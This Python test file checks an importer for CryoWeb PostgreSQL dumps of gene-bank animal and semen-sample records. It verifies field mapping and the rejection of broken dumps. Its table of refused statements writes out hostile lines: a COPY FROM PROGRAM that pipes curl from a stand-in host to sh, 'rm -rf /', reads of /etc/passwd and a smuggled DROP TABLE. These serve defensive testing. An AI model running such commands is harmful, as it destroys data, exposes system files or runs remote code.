"""CryoWeb dumps import as CryoWeb's views join them, and anything but data is refused before a row is kept."""

from __future__ import annotations

import pytest

from uid.formats import cryoweb
from uid.importer import detect_format, import_records
from uid.models import Animal, Sample, Submission
from uid.upload_checks import ImportFailed

# Written as old pg_dump --column-inserts writes it (formats.md §3.1): unqualified names under
# `SET search_path`, the spec's test tables (codes, transfer, animal, breeds_species, unit, protocols,
# vessels, nodes) and setval lines. Texts hold '' quotes, commas, semicolons, a line break and umlauts.
INSERT_DUMP = """--
-- PostgreSQL database dump
--

SET statement_timeout = 0;
SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;
SET check_function_bodies = false;
SET client_min_messages = warning;

SET search_path = apiis_admin, pg_catalog;

--
-- Data for Name: codes; Type: TABLE DATA; Schema: apiis_admin; Owner: apiis_admin
--

INSERT INTO codes (ext_code, class, db_code, short_name, long_name, closing_dt) VALUES ('m', 'SEX', 1, 'männlich', 'male', NULL);
INSERT INTO codes (ext_code, class, db_code, short_name, long_name, closing_dt) VALUES ('f', 'SEX', 2, 'weiblich', 'female', NULL);
INSERT INTO codes (ext_code, class, db_code, short_name, long_name, closing_dt) VALUES ('Sheep', 'SPECIES', 3, 'Schaf', 'Sheep', NULL);
INSERT INTO codes (ext_code, class, db_code, short_name, long_name, closing_dt) VALUES ('Cattle', 'SPECIES', 4, 'Rind', 'Cattle', NULL);
INSERT INTO codes (ext_code, class, db_code, short_name, long_name, closing_dt) VALUES ('Semen', 'CRYO_TYPE', 5, 'Sperma', 'Semen', NULL);
INSERT INTO codes (ext_code, class, db_code, short_name, long_name, closing_dt) VALUES ('Merino', 'BREED', 6, 'Merino', 'Merino', NULL);
INSERT INTO codes (ext_code, class, db_code, short_name, long_name, closing_dt) VALUES ('Angler', 'BREED', 7, 'Angler', 'Angler', NULL);
INSERT INTO codes (ext_code, class, db_code, short_name, long_name, closing_dt) VALUES ('DEU', 'COUNTRY', 8, 'Deutschland', 'Germany', NULL);
INSERT INTO codes (ext_code, class, db_code, short_name, long_name, closing_dt) VALUES ('ger', 'LANGUAGE', 9, 'Deutsch', 'German', NULL);
INSERT INTO codes (ext_code, class, db_code, short_name, long_name, closing_dt) VALUES ('straw', 'VESSEL_TYPE', 10, 'Pailette', 'straw', NULL);
INSERT INTO codes (ext_code, class, db_code, short_name, long_name, closing_dt) VALUES ('yes', 'AVAILABILITY', 11, 'ja', 'yes', NULL);
INSERT INTO codes (ext_code, class, db_code, short_name, long_name, closing_dt) VALUES ('no', 'AVAILABILITY', 12, 'nein', 'no', NULL);
INSERT INTO codes (ext_code, class, db_code, short_name, long_name, closing_dt) VALUES ('?', 'SEX', 13, 'unbekannt', 'unknown', NULL);

--
-- Data for Name: unit; Type: TABLE DATA; Schema: apiis_admin; Owner: apiis_admin
--

INSERT INTO unit (db_unit, ext_unit, ext_id, db_contact, db_member, opening_dt) VALUES (100, 'ANIMAL', 'ID', NULL, NULL, '2010-01-01');

INSERT INTO transfer (db_animal, ext_animal, db_unit, opening_dt, closing_dt) VALUES (1, 'UNKNOWN_SIRE', 100, NULL, NULL);
INSERT INTO transfer (db_animal, ext_animal, db_unit, opening_dt, closing_dt) VALUES (2, 'UNKNOWN_DAM', 100, NULL, NULL);
INSERT INTO transfer (db_animal, ext_animal, db_unit, opening_dt, closing_dt) VALUES (11, 'DE 0101', 100, '2005-01-01', NULL);
INSERT INTO transfer (db_animal, ext_animal, db_unit, opening_dt, closing_dt) VALUES (12, 'DE 0102', 100, '2006-01-01', NULL);
INSERT INTO transfer (db_animal, ext_animal, db_unit, opening_dt, closing_dt) VALUES (13, 'DE 0103', 100, '2012-01-01', NULL);

INSERT INTO breeds_species (db_breed, db_species, efabis_mcname, efabis_species, efabis_country, efabis_lang) VALUES (6, 3, 'Merinolandschaf', 'Sheep', 'Germany', 'ger');
INSERT INTO breeds_species (db_breed, db_species, efabis_mcname, efabis_species, efabis_country, efabis_lang) VALUES (7, 4, 'Angler Rotvieh', 'Cattle', 'Germany', 'ger');

INSERT INTO animal (db_animal, db_sire, db_dam, db_sex, db_breed, db_species, birth_dt, birth_year, latitude, longitude, comment, db_org, la_rep, image_id) VALUES (13, 11, 12, 2, 6, 3, '2012-03-27', '2012', 54.32, 10.13, 'Ewe; daughter of DE 0101, \'\'the ram\'\'', NULL, NULL, NULL);
INSERT INTO animal (db_animal, db_sire, db_dam, db_sex, db_breed, db_species, birth_dt, birth_year, latitude, longitude, comment, db_org, la_rep, image_id) VALUES (11, 1, 2, 1, 6, 3, '2005-04-01 00:00:00', '2005', 0, 0, 'Ram, from Schleswig-Holstein;
second line of the comment', NULL, NULL, NULL);
INSERT INTO animal (db_animal, db_sire, db_dam, db_sex, db_breed, db_species, birth_dt, birth_year, latitude, longitude, comment, db_org, la_rep, image_id) VALUES (12, 1, 2, 2, 6, 3, '2006-05-02', '2006', NULL, NULL, NULL, NULL, NULL, NULL);

INSERT INTO protocols (protocol_id, protocol_name, db_material_type, comment) VALUES (1, 'Semen, frozen in straws', 5, NULL);

INSERT INTO vessels (db_vessel, ext_vessel, db_animal, protocol_id, production_dt, freezing_dt, db_vessel_type, comment) VALUES (500, 'V-0001', 11, 1, '2007-06-15', '2007-06-15', 10, 'Straw 1, "best"');

INSERT INTO nodes (nodename, address) VALUES ('Mariensee', '127.0.0.1');

SELECT pg_catalog.setval('seq_animal__db_animal', 13, true);
SELECT pg_catalog.setval('seq_codes__db_code', 13, true);

--
-- PostgreSQL database dump complete
--

"""  # noqa: E501


def copy_dump() -> str:
    """The same data as a current pg_dump writes it by default: schema-qualified COPY blocks of tab-separated rows."""
    return """--
-- PostgreSQL database dump
--

\\restrict 3mGkx0cvT2fPaX8nQb7Ld1

SET statement_timeout = 0;
SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;
SELECT pg_catalog.set_config('search_path', '', false);
SET row_security = off;

COPY apiis_admin.codes (db_code, ext_code, class, short_name, long_name, closing_dt) FROM stdin;
1\tm\tSEX\tmännlich\tmale\t\\N
2\tf\tSEX\tweiblich\tfemale\t\\N
3\tSheep\tSPECIES\tSchaf\tSheep\t\\N
4\tCattle\tSPECIES\tRind\tCattle\t\\N
5\tSemen\tCRYO_TYPE\tSperma\tSemen\t\\N
\\.

COPY apiis_admin.unit (db_unit, ext_unit, ext_id, db_contact) FROM stdin;
100\tANIMAL\tID\t\\N
\\.

COPY apiis_admin.transfer (db_animal, ext_animal, db_unit, opening_dt, closing_dt) FROM stdin;
1\tUNKNOWN_SIRE\t100\t\\N\t\\N
2\tUNKNOWN_DAM\t100\t\\N\t\\N
11\tDE 0101\t100\t2005-01-01\t\\N
12\tDE 0102\t100\t2006-01-01\t\\N
13\tDE 0103-old\t100\t2012-01-01\t2013-01-01
13\tDE 0103\t100\t2013-01-01\t\\N
\\.

COPY apiis_admin.breeds_species (db_breed, db_species, efabis_mcname, efabis_species, efabis_country, efabis_lang) FROM stdin;
6\t3\tMerinolandschaf\tSheep\tGermany\tger
7\t4\tAngler Rotvieh\tCattle\tGermany\tger
\\.

COPY apiis_admin.animal (db_animal, db_sire, db_dam, db_sex, db_breed, db_species, birth_dt, latitude, longitude, comment) FROM stdin;
13\t11\t12\t2\t6\t3\t2012-03-27\t54.32\t10.13\tEwe; daughter of DE 0101, 'the ram'
11\t1\t2\t1\t6\t3\t2005-04-01 00:00:00\t0\t0\tRam, from Schleswig-Holstein;\\nsecond line of the comment
12\t1\t2\t2\t6\t3\t2006-05-02\t\\N\t\\N\t\\N
\\.

COPY apiis_admin.protocols (protocol_id, protocol_name, db_material_type) FROM stdin;
1\tSemen, frozen in straws\t5
\\.

COPY apiis_admin.vessels (db_vessel, ext_vessel, db_animal, protocol_id, production_dt, comment) FROM stdin;
500\tV-0001\t11\t1\t2007-06-15\tStraw 1,\\t"best" \\\\ tab
\\.

SELECT pg_catalog.setval('apiis_admin.seq_animal__db_animal', 13, true);

--
-- PostgreSQL database dump complete
--

\\unrestrict 3mGkx0cvT2fPaX8nQb7Ld1
"""  # noqa: E501


def animals(submission) -> dict[str, dict]:
    fields = ["alternative_id", "sex", "species", "breed", "breed_country", "birth_date", "latitude", "longitude"]
    fields += ["accuracy", "description", "father_name", "mother_name"]
    return {a["name"]: a for a in Animal.objects.filter(submission=submission).values("name", *fields)}


@pytest.mark.django_db
def test_an_insert_dump_imports_its_breeds_animals_parents_and_sample(submission):
    result = import_records(submission=submission, file=_file(INSERT_DUMP))

    assert (result.format, result.animals, result.samples) == ("cryoweb", 3, 1)
    found = animals(submission)
    assert set(found) == {"ANIMAL:::ID:::DE 0101", "ANIMAL:::ID:::DE 0102", "ANIMAL:::ID:::DE 0103"}
    ewe = found["ANIMAL:::ID:::DE 0103"]
    assert ewe == {
        "name": "ANIMAL:::ID:::DE 0103",
        "alternative_id": "13",
        "sex": "female",
        "species": "Ovis aries",
        "breed": "Merinolandschaf",
        "breed_country": "Germany",
        "birth_date": "2012-03-27",
        "latitude": "54.32",
        "longitude": "10.13",
        "accuracy": "unknown accuracy level",
        "description": "Ewe; daughter of DE 0101, 'the ram'",
        # Listed before its parents in the dump, and still linked: parents are found in a second pass.
        "father_name": "ANIMAL:::ID:::DE 0101",
        "mother_name": "ANIMAL:::ID:::DE 0102",
    }
    ram = found["ANIMAL:::ID:::DE 0101"]
    # CryoWeb's placeholder parents have a transfer row but no animal row: no parent, and no error.
    assert (ram["sex"], ram["father_name"], ram["mother_name"]) == ("male", "", "")
    assert (ram["birth_date"], ram["latitude"], ram["accuracy"]) == (
        "2005-04-01",
        "0",
        "missing geographic information",
    )
    assert ram["description"] == "Ram, from Schleswig-Holstein;\nsecond line of the comment"
    assert (found["ANIMAL:::ID:::DE 0102"]["latitude"], found["ANIMAL:::ID:::DE 0102"]["description"]) == ("", "")
    sample = Sample.objects.get(submission=submission)
    assert (sample.name, sample.alternative_id, sample.animal.name) == ("V-0001", "500", "ANIMAL:::ID:::DE 0101")
    assert (sample.organism_part, sample.collection_date, sample.description) == (
        "semen",
        "2007-06-15",
        'Straw 1, "best"',
    )
    assert (sample.animal_age_at_collection, sample.animal_age_at_collection_units) == ("2", "years")


@pytest.mark.django_db
def test_a_copy_dump_imports_the_same_records_with_its_escapes_and_the_open_transfer(submission, other_user):
    from_inserts = Submission.objects.create(title="INSERT form", owner=other_user)
    import_records(submission=from_inserts, file=_file(INSERT_DUMP))

    result = import_records(submission=submission, file=_file(copy_dump()))

    assert (result.animals, result.samples) == (3, 1)
    # Animal 13 was transferred twice; its open transfer (no closing date) names it, once.
    assert animals(submission) == animals(from_inserts)
    ewe = animals(submission)["ANIMAL:::ID:::DE 0103"]
    assert (ewe["sex"], ewe["birth_date"]) == ("female", "2012-03-27")
    assert (ewe["latitude"], ewe["longitude"], ewe["accuracy"]) == ("54.32", "10.13", "unknown accuracy level")
    assert (ewe["father_name"], ewe["mother_name"]) == ("ANIMAL:::ID:::DE 0101", "ANIMAL:::ID:::DE 0102")
    sample = Sample.objects.get(submission=submission)
    assert (sample.name, sample.animal.name, sample.organism_part) == ("V-0001", "ANIMAL:::ID:::DE 0101", "semen")
    assert sample.description == 'Straw 1,\t"best" \\ tab'


def test_dumps_are_told_apart_by_content():
    assert detect_format(INSERT_DUMP.encode()) == cryoweb.NAME
    assert detect_format(copy_dump().encode()) == cryoweb.NAME
    assert detect_format(b"record_type,id\nanimal,a1\n") == "csv"


@pytest.mark.django_db
def test_species_are_resolved_in_the_gene_bank_countrys_language_then_english(submission):
    # "Schaf" is German (the bundled table of uid.formats.species), unknown in Italian and in English.
    dump = INSERT_DUMP.replace("VALUES ('Sheep', 'SPECIES'", "VALUES ('Schaf', 'SPECIES'")
    submission.gene_bank_country = "Italy"
    with pytest.raises(ImportFailed, match=r'Species without a synonym \(Italy or English\): "Schaf"\.'):
        import_records(submission=submission, file=_file(dump))
    assert not Animal.objects.exists()

    submission.gene_bank_country = "Germany"
    import_records(submission=submission, file=_file(dump))

    assert set(Animal.objects.values_list("species", flat=True)) == {"Ovis aries"}


@pytest.mark.django_db
def test_a_latin_name_needs_a_synonym_too_and_an_unknown_sex_is_named(submission):
    submission.gene_bank_country = ""  # English synonyms only
    submission.save()
    dump = INSERT_DUMP.replace("VALUES ('Sheep', 'SPECIES'", "VALUES ('Ovis aries', 'SPECIES'")
    dump = dump.replace("VALUES (12, 1, 2, 2, 6", "VALUES (12, 1, 2, 13, 6")

    with pytest.raises(ImportFailed) as refused:
        import_records(submission=submission, file=_file(dump))

    assert 'Species without a synonym (English): "Ovis aries".' in refused.value.message
    assert "Unknown sex '?' for 'ANIMAL:::ID:::DE 0102'" in refused.value.message
    assert not Animal.objects.exists()


HEAD = "--\n-- PostgreSQL database dump\n--\n\nSET client_encoding = 'UTF8';\n"  # lines 1-5
CODE = "INSERT INTO apiis_admin.codes (db_code, ext_code) VALUES (1, 'm');\n"  # line 6
REFUSED = {
    "create table": (
        "CREATE TABLE apiis_admin.x (a integer);\n",
        'Line 7 holds a schema statement (DDL) ("CREATE TABLE apiis_admin.x (a integer);")',
    ),
    "alter": ("ALTER TABLE apiis_admin.codes DISABLE TRIGGER ALL;\n", "Line 7 holds a schema statement (DDL)"),
    "drop": ("DROP TABLE apiis_admin.animal;\n", 'Line 7 holds a DROP statement ("DROP TABLE apiis_admin.animal;")'),
    "drop after an insert on its line": (
        "INSERT INTO apiis_admin.codes (db_code, ext_code) VALUES (2, 'f'); DROP TABLE x;\n",
        'Line 7 holds a DROP statement ("DROP TABLE x;")',
    ),
    "function": (
        "CREATE FUNCTION apiis_admin.f() RETURNS void AS $$\nBEGIN PERFORM 1; END;\n$$ LANGUAGE plpgsql;\n",
        "Line 7 holds a function definition",
    ),
    "do block": ("DO $$ BEGIN RAISE NOTICE 'x'; END $$;\n", "Line 7 holds a DO block (code)"),
    "copy program": (
        "COPY apiis_admin.codes (db_code) FROM PROGRAM 'curl evil.example | sh';\n",
        "Line 7 holds COPY ... PROGRAM, which runs a shell command",
    ),
    "copy to": ("COPY apiis_admin.codes TO '/tmp/codes';\n", "Line 7 holds COPY ... TO, which writes a file"),
    "copy from a file": (
        "COPY apiis_admin.codes (db_code) FROM '/etc/passwd';\n",
        "Line 7 holds a COPY that does not read its rows from the dump (FROM stdin)",
    ),
    "shell line": ("\\! rm -rf /\n", "Line 7 is a psql meta-command (\\!), which runs commands or reads files"),
    "include line": ("\\i /etc/passwd\n", "Line 7 is a psql meta-command (\\i)"),
    "other select": ("SELECT pg_read_file('/etc/passwd');\n", "Line 7 holds a SELECT other than pg_catalog.set_config"),
    "other schema": (
        "INSERT INTO public.users (id) VALUES (1);\n",
        "Line 7 holds rows for schema public, outside CryoWeb's apiis_admin",
    ),
}


@pytest.mark.django_db
@pytest.mark.parametrize("case", REFUSED)
def test_anything_but_data_is_refused_naming_its_line_and_nothing_is_imported(submission, case):
    statement, message = REFUSED[case]
    import_records(submission=submission, file=_file(INSERT_DUMP))  # what was loaded before stays

    with pytest.raises(ImportFailed) as refused:
        import_records(submission=submission, file=_file(HEAD + CODE + statement + INSERT_DUMP))

    assert message in refused.value.message
    assert "nothing in it was run" in refused.value.message or "psql meta-command" in refused.value.message
    assert Animal.objects.filter(submission=submission).count() == 3


BROKEN = {
    "cut at a line end": (INSERT_DUMP.split("INSERT INTO vessels")[0], "without pg_dump's closing line"),
    "cut inside a statement": (
        INSERT_DUMP.split("second line of the comment")[0],
        "The dump ends at line 47 inside the statement that starts on line 47: the file is cut short",
    ),
    "cut inside copy data": (
        copy_dump().split("COPY apiis_admin.protocols")[0].removesuffix("\\.\n\n"),
        "The dump ends at line 42 inside the COPY data of table animal that starts on line 39",
    ),
    "a copy row one value short": (
        copy_dump().replace("1\tSemen, frozen in straws\t5", "1\tSemen, frozen in straws"),
        "Line 46 of the dump cannot be read: 2 tab-separated values in the COPY data of protocols, for 3 columns",
    ),
    "an insert with a bad value": (
        INSERT_DUMP.replace("VALUES (1, 'Semen, frozen in straws', 5, NULL)", "VALUES (1, 'Semen', 5 NULL)"),
        'Line 51 of the dump cannot be read: expected a value (a quoted text, a number or NULL) at "5 NULL);"',
    ),
    "an insert with too few values": (
        INSERT_DUMP.replace("VALUES (1, 'Semen, frozen in straws', 5, NULL)", "VALUES (1, 'Semen', 5)"),
        "Line 51 of the dump cannot be read: 3 values for 4 columns",
    ),
    "not utf-8": (INSERT_DUMP.replace("männlich", "m\udce4nnlich"), "Line 17 of the dump is not UTF-8"),
}


@pytest.mark.django_db
@pytest.mark.parametrize("case", BROKEN)
def test_a_truncated_or_malformed_dump_names_its_line_and_imports_nothing(submission, case):
    text, message = BROKEN[case]

    with pytest.raises(ImportFailed) as refused:
        import_records(submission=submission, file=_file(text))

    assert message in refused.value.message
    assert not Animal.objects.exists()
    assert not Sample.objects.exists()


@pytest.mark.django_db
def test_a_never_ending_quote_is_cut_off_at_the_statement_cap(submission, monkeypatch):
    monkeypatch.setattr("uid.formats.cryoweb_sql.STATEMENT_MAX_CHARS", 2000)
    text = HEAD + "INSERT INTO apiis_admin.codes (db_code, ext_code) VALUES (1, 'open;\n" + "more text;\n" * 500

    with pytest.raises(ImportFailed, match="The statement that starts on line 6 is longer than 1 KB"):
        import_records(submission=submission, file=_file(text))


def _file(text: str):
    import io

    return io.BytesIO(text.encode("utf-8", errors="surrogateescape"))
